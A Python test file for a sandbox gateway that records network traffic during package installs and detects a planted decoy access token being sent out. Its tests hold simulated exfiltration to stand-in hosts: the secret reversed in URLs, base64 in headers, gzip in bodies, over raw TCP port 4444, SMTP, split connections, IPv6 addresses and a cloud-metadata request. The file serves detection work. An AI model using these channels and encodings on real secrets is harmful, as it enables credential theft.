"""The gateway as a whole, as bytes in and answers and events out: HTTP, raw streams, and what goes wrong."""

from __future__ import annotations

import asyncio
import base64
import gzip
import os

import pytest

from sandbox import events
from sandbox.gateway import policy, server
from sandbox.streams import Peer
from tests.gateway_rig import GET, SECRET, Memory, World, play, working

world = pytest.fixture(working)


def test_plain_http_from_start_to_end(world: World) -> None:
    heard = play(world, "one.test", 80, GET % (b"/x?y=1", b"one.test", b"Accept: */*\r\n"), until=b"{}")
    assert heard.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b"Date: " in heard
    name, opened, sent, closed = world.seen()[:4]
    assert (name.name, name.kind, name.server) == ("one.test", "A", "10.0.0.53")
    assert (opened.host, opened.port, opened.protocol) == ("one.test", 80, "tcp")
    assert (opened.process, opened.phase) == (7, "install")
    assert (sent.url, sent.method, sent.status, sent.answered_by) == ("http://one.test/x?y=1", "GET", 200, "empty")
    assert sent.headers == [("Host", "one.test"), ("Accept", "*/*")]
    assert closed.sent > 40
    assert closed.received == len(heard)


def test_keep_alive(world: World) -> None:
    async def run() -> None:
        async with world.connect("one.test", 8080) as stream:
            for path in (b"/1", b"/2"):
                stream.say(GET % (path, b"one.test:8080", b""))
                await stream.until(b"{}")

    asyncio.run(run())
    assert [event.url for event in world.seen(events.RequestSent)] == ["http://one.test:8080/1", "http://one.test:8080/2"]


def test_bait_in_every_place_of_a_request(world: World) -> None:
    body = gzip.compress(b"x" + SECRET.encode())
    head = b"POST /%s HTTP/1.1\r\nHost: evil.test\r\nX-K: %s\r\nContent-Length: %d\r\n\r\n"
    data = head % (SECRET.encode()[::-1], base64.b64encode(SECRET.encode()), len(body))
    play(world, "evil.test", 80, data + body, until=b"}")
    found = world.seen(events.DecoySent)
    assert {(event.where, tuple(event.encodings)) for event in found} == {
        ("url", ("reversed",)), ("header", ("base64",)), ("body", ("gzip",))}  # fmt: skip
    assert {(event.decoy, event.token, event.host, event.connection, event.process) for event in found} == {
        ("npm", "access token", "evil.test", 1, 7)}  # fmt: skip
    assert SECRET not in found[0].token


def test_a_large_body_is_looked_at_on_a_thread(world: World) -> None:
    body = os.urandom(600_000) + SECRET.encode()
    play(world, "evil.test", 80, b"PUT / HTTP/1.1\r\nHost: evil.test\r\nExpect: 100-continue\r\n"
         b"Content-Length: %d\r\n\r\n" % len(body), body, until=b"{}")  # fmt: skip
    (sent,) = world.seen(events.RequestSent)
    assert (sent.body_size, len(sent.body)) == (len(body), 65536)
    (found,) = world.seen(events.DecoySent)
    assert (found.where, found.phase) == ("body", "install")
    assert world.seen(events.SensorLost) == []


def test_what_is_skipped_is_said(world: World) -> None:
    size = 7 * 1024 * 1024
    play(world, "evil.test", 80, b"PUT / HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\n\r\n" % size,
         *[bytes(1024 * 1024)] * 7, until=b"{}")  # fmt: skip
    (lost,) = world.seen(events.SensorLost)
    assert "middle of a large body" in lost.reason


def test_the_registry_is_real(world: World) -> None:
    login = b"Authorization: Bearer " + SECRET.encode() + b"\r\n"
    play(world, "registry.test", 443, GET % (b"/left-pad", b"registry.test", login), until=b'"left-pad"}')

    async def run() -> bytes:
        async with world.connect("registry.test", 443) as stream:
            stream.say(GET % (b"/a.tgz", b"registry.test", b""))
            return await stream.until(world.file.read_bytes()[-100:])

    heard = asyncio.run(run())
    assert heard.endswith(b"\r\n\r\n" + world.file.read_bytes())
    one, two = world.seen(events.RequestSent)
    assert (one.answered_by, two.answered_by) == ("registry", "registry")
    (sent,) = world.seen(events.DecoySent)
    assert (sent.host, sent.where) == ("registry.test", "header")
    (served,) = world.seen(events.ArtifactServed)
    assert (served.url, served.digest, served.size) == ("http://registry.test:443/a.tgz", "sha512:ab", 1_000_000)


def test_the_registry_is_told_from_who_pretends_to_be_it(world: World) -> None:
    play(world, "evil.test", 80, GET % (b"/?t=" + SECRET.encode(), b"registry.test", b""), until=b"{}")
    (sent,) = world.seen(events.RequestSent)
    assert (sent.answered_by, sent.url) == ("empty", f"http://evil.test/?t={SECRET}")
    assert [event.host for event in world.seen(events.DecoySent)] == ["evil.test", "registry.test"]


def test_a_registry_that_fails_is_said(world: World) -> None:
    heard = play(world, "registry.test", 80, GET % (b"/broken", b"registry.test", b""), until=b"\r\n\r\n")
    assert heard.startswith(b"HTTP/1.1 502 ")
    (lost,) = world.seen(events.SensorLost)
    assert "disk on fire" in lost.reason


def test_telling_endpoints_by_address(world: World) -> None:
    heard = play(world, "169.254.169.254", 80, GET % (b"/user", b"169.254.169.254", b""), until=b"dev")
    assert b"Content-Type: application/json" in heard
    (asked,) = world.seen(events.EndpointAsked)
    assert (asked.decoy, asked.url) == ("npm", "http://169.254.169.254/user")
    (opened,) = world.seen(events.ConnectionOpened)
    assert (opened.host, opened.address) == ("", "169.254.169.254")


def test_what_is_cut_off_is_still_seen(world: World) -> None:
    play(world, "evil.test", 80, b"POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 500\r\n\r\n" + SECRET.encode())
    (sent,) = world.seen(events.RequestSent)
    assert (sent.status, sent.body) == (0, SECRET.encode())
    assert len(world.seen(events.DecoySent)) == 1


def test_what_is_cut_off_while_we_think_is_still_seen(world: World) -> None:
    async def run() -> None:
        stream = Memory(world.address("registry.test"), 80)
        stream.say(GET % (b"/slow?t=" + SECRET.encode(), b"registry.test", b""))
        task = asyncio.ensure_future(world.gateway.serve(stream))
        await asyncio.sleep(0.05)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert stream.was_reset

    asyncio.run(run())
    assert world.seen(events.RequestSent)[0].status == 0
    assert len(world.seen(events.DecoySent)) == 1
    assert len(world.seen(events.ConnectionClosed)) == 1


def test_not_http_after_all(world: World) -> None:
    heard = play(world, "evil.test", 80, b"GET / HTTP/1.1\r\nbroken\r\n\r\n", b"then " + SECRET.encode(), until=b"400")
    assert heard.startswith(b"HTTP/1.1 400 ")
    first, second = world.seen(events.DataSent)
    assert first.data == b"GET / HTTP/1.1\r\nbroken\r\n\r\n"
    assert second.data == b"then " + SECRET.encode()
    (found,) = world.seen(events.DecoySent)
    assert found.where == "data"


def test_raw_streams(world: World) -> None:
    play(world, "203.0.113.9", 4444, b"\x00\x01" + SECRET.encode()[:20], SECRET.encode()[20:])
    (sent,) = world.seen(events.DataSent)
    assert (sent.data, sent.size, sent.protocol) == (b"\x00\x01" + SECRET.encode(), 42, "tcp")
    (found,) = world.seen(events.DecoySent)
    assert (found.host, found.where, found.encodings) == ("203.0.113.9", "data", [])
    assert len(world.seen(events.ConnectionClosed)) == 1


def test_a_letter_is_taken_from_who_waits_to_be_greeted(world: World) -> None:
    async def run() -> bytes:
        async with world.connect("mx.test", 25) as stream:
            heard = await stream.until(b"220 ")
            stream.say(b"EHLO x\r\nMAIL FROM:<a@x>\r\nRCPT TO:<b@x>\r\nDATA\r\n")
            heard += await stream.until(b"354 ")
            stream.say(f"Subject: a\r\n\r\n{SECRET}\r\n.\r\nQUIT\r\n".encode())
            return heard + await stream.until(b"221 ")

    assert b"250 " in asyncio.run(run())
    (found,) = world.seen(events.DecoySent)
    assert (found.host, found.where) == ("mx.test", "data")


def test_mail_after_tls_was_asked_for(world: World) -> None:
    async def run() -> None:
        async with world.connect("mx.test", 587) as stream:
            stream.say(b"EHLO x\r\nSTARTTLS\r\n")
            await stream.until(b"go ahead")
            stream.say(b"\x16\x03\x01\x00\x05", bytes(5), SECRET.encode())

    asyncio.run(run())
    assert len(world.seen(events.DecoySent)) == 1  # it was no TLS after all
    assert world.seen(events.SensorLost) == []


def test_raw_streams_are_recorded_at_a_pause(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "_PAUSE", 0.05)

    async def run() -> None:
        async with world.connect("203.0.113.9", 4444) as stream:
            stream.say(b"\x01" + base64.b64encode(SECRET.encode())[:24])
            await asyncio.sleep(0.2)
            world.recorder.phase = "linger"
            stream.say(base64.b64encode(SECRET.encode())[24:])

    asyncio.run(run())
    assert [(event.size, event.phase) for event in world.seen(events.DataSent)] == [(25, "install"), (32, "linger")]
    assert world.seen(events.DecoySent)[0].encodings == ["base64"]


def test_long_raw_streams_are_bounded_and_said(world: World) -> None:
    play(world, "203.0.113.9", 4444, b"\x01", *[bytes(500_000)] * 5, SECRET.encode())
    (sent,) = world.seen(events.DataSent)
    assert (sent.size, len(sent.data)) == (2_500_041, 65536)
    assert len(world.seen(events.DecoySent)) == 1
    assert "middle of a stream" in world.seen(events.SensorLost)[0].reason


def test_many_connections_with_a_piece_each(world: World) -> None:
    for place in range(0, len(SECRET), 8):
        play(world, "203.0.113.9", 4444, SECRET[place : place + 8].encode())
    assert len(world.seen(events.DecoySent)) == 1


def test_a_client_that_waits_for_the_server(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "IDLE", 0.05)
    play(world, "mail.test", 25)
    assert [type(event) for event in world.seen()[1:3]] == [events.ConnectionOpened, events.ConnectionClosed]


def test_a_reset_is_no_fault(world: World) -> None:
    play(world, "one.test", 80, b"POST / HTTP/1.1\r\nHost: one.test\r\nContent-Length: 5\r\n\r\nab", b"reset")
    assert world.seen(events.SensorLost) == []
    assert world.seen(events.RequestSent)[0].body == b"ab"


def test_a_fault_of_ours_is_said(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise RuntimeError("ours")

    monkeypatch.setattr(policy, "classify", broken)
    play(world, "one.test", 80, b"hello")
    (lost,) = world.seen(events.SensorLost)
    assert (lost.sensor, "ours" in lost.reason) == ("gateway", True)


def test_bait_as_addresses(world: World) -> None:
    digits = SECRET.encode().hex()
    for place in range(0, len(digits), 16):
        half = digits[place : place + 16].ljust(16, "0")
        address = "2001:db8::" + ":".join(half[at : at + 4] for at in range(0, 16, 4))
        world.gateway.datagram(Peer(connection=0, address=address, port=4000, process=7), b"x")
    world.gateway.close()
    assert {event.token for event in world.seen(events.DecoySent)} == {"access token"}
